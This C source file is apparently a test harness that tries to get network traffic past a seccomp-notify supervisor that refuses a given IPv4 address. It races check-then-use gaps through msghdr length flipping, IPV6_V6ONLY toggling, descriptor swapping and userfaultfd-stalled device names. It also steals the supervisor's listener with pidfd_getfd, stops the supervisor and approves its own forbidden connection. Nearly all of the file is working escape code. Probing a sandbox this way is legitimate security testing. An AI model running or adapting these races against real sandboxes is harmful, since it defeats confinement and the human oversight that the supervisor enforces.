/* Tries to change, from a second thread or from outside, what the supervisor has looked at before it
 * acts. Arguments: which race, an IPv4 address that the policy refuses, how many tries. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/seccomp.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

/* The program's own address in the network that this runs in. */
#define OWN "10.203.0.2"

static struct sockaddr_in forbidden, local;
static struct sockaddr_in6 mapped;
static volatile struct msghdr message;
static volatile int over;
static int fd, listener = -1;

static void linger(void) {
    for (volatile int i = 0; i < 20000; i++) {}
}

static void *flipping(void *unused) {
    while (!over) {
        message.msg_namelen = 0;
        linger();
        message.msg_namelen = sizeof forbidden;
        linger();
    }
    return NULL;
}

static void *toggling(void *unused) {
    for (int only = 1; !over; only = !only) {
        setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &only, sizeof only);
        linger();
    }
    return NULL;
}

static void *sending(void *unused) {
    while (!over) send(fd, "leak", 4, MSG_DONTWAIT | MSG_NOSIGNAL);
    return NULL;
}

/* The name of a message appears after it was found to have none. */
static void name(void) { sendmsg(fd, (struct msghdr *) &message, MSG_NOSIGNAL); }

/* A datagram is sent while the socket is being connected. */
static void datagram(void) {
    struct sockaddr nothing = {.sa_family = AF_UNSPEC};
    connect(fd, (struct sockaddr *) &forbidden, sizeof forbidden);
    connect(fd, &nothing, sizeof nothing);
}

/* A socket is IPv6 only when it is looked at, and no longer when it is connected. */
static void only(void) { connect(fd, (struct sockaddr *) &mapped, sizeof mapped); }

static int kinds[2];

static void *swapping(void *unused) {
    for (int i = 0; !over; i = !i) {
        dup2(kinds[i], fd);
        linger();
    }
    return NULL;
}

/* A descriptor is of AF_UNIX when it is looked at, and of TCP when the call goes on. */
static void descriptor(void) { connect(fd, (struct sockaddr *) &forbidden, sizeof forbidden); }

static char *page;

static void *choosing(void *unused) {
    setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, page, sizeof "cable");
    return NULL;
}

/* The name of a network device comes to memory after the socket was connected. */
static void device(void) {
    int faults = syscall(SYS_userfaultfd, O_CLOEXEC);
    struct uffdio_api api = {.api = UFFD_API};
    ioctl(faults, UFFDIO_API, &api);
    page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct uffdio_register range = {.range = {(unsigned long) page, 4096},
                                    .mode = UFFDIO_REGISTER_MODE_MISSING};
    ioctl(faults, UFFDIO_REGISTER, &range);
    pthread_t thread;
    pthread_create(&thread, NULL, choosing, NULL);
    struct uffd_msg fault;
    if (read(faults, &fault, sizeof fault) < 0) perror("userfaultfd");
    connect(fd, (struct sockaddr *) &forbidden, sizeof forbidden);
    static char name[4096] = "cable";
    struct uffdio_copy copy = {.dst = (unsigned long) page, .src = (unsigned long) name, .len = 4096};
    ioctl(faults, UFFDIO_COPY, &copy);
    pthread_join(thread, NULL);
    for (int i = 0; i < 2; i++) send(fd, "leak", 4, MSG_NOSIGNAL);
    printf("tried 1 times\n");
}

static void *answering(void *unused) {
    struct seccomp_notif call;
    while (memset(&call, 0, sizeof call), 1) {
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &call) < 0) continue;
        struct seccomp_notif_resp answer = {
            .id = call.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
    }
    return NULL;
}

/* The supervisor is stopped, and its listener taken from it: 434 is pidfd_open, 438 pidfd_getfd. */
static void steal(void) {
    int supervisor = getppid(), pidfd = syscall(434, supervisor, 0);
    for (int i = 3; i < 64 && listener < 0; i++) {
        int stolen = syscall(438, pidfd, i, 0);
        unsigned long id = 0;
        if (stolen >= 0 && ioctl(stolen, SECCOMP_IOCTL_NOTIF_ID_VALID, &id) < 0 && errno == ENOENT)
            listener = stolen;
    }
    printf("listener: %s\n", listener < 0 ? "kept" : "stolen");
    if (listener < 0) return;
    pthread_t thread;
    kill(supervisor, SIGSTOP);
    pthread_create(&thread, NULL, answering, NULL);
    connect(socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), (struct sockaddr *) &forbidden,
            sizeof forbidden);
    kill(supervisor, SIGCONT);
    _exit(0);
}

static void race(void *(*other)(void *), void (*mine)(void), int tries) {
    pthread_t thread;
    pthread_create(&thread, NULL, other, NULL);
    for (int i = 0; i < tries; i++) mine();
    over = 1;
    pthread_join(thread, NULL);
    printf("tried %d times\n", tries);
}

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    int tries = atoi(argv[3]);
    char text[64];
    forbidden.sin_family = local.sin_family = AF_INET;
    forbidden.sin_port = local.sin_port = mapped.sin6_port = htons(4242);
    mapped.sin6_family = AF_INET6;
    inet_pton(AF_INET, argv[2], &forbidden.sin_addr);
    inet_pton(AF_INET, OWN, &local.sin_addr);
    snprintf(text, sizeof text, "::ffff:%s", argv[2]);
    inet_pton(AF_INET6, text, &mapped.sin6_addr);
    if (!strcmp(argv[1], "steal")) {
        steal();
    } else if (!strcmp(argv[1], "name")) {
        struct iovec part = {"leak", 4};
        message = (struct msghdr) {.msg_name = &forbidden, .msg_iov = &part, .msg_iovlen = 1};
        fd = socket(AF_INET, SOCK_DGRAM, 0);
        connect(fd, (struct sockaddr *) &local, sizeof local);
        race(flipping, name, tries);
    } else if (!strcmp(argv[1], "device")) {
        fd = socket(AF_INET, SOCK_DGRAM, 0);
        device();
    } else if (!strcmp(argv[1], "only")) {
        fd = socket(AF_INET6, SOCK_STREAM | SOCK_NONBLOCK, 0);
        race(toggling, only, tries);
    } else if (!strcmp(argv[1], "descriptor")) {
        kinds[0] = socket(AF_UNIX, SOCK_STREAM, 0);
        kinds[1] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        fd = dup(kinds[0]);
        race(swapping, descriptor, tries);
    } else {
        fd = socket(AF_INET, SOCK_DGRAM, 0);
        race(sending, datagram, tries);
    }
    return 0;
}
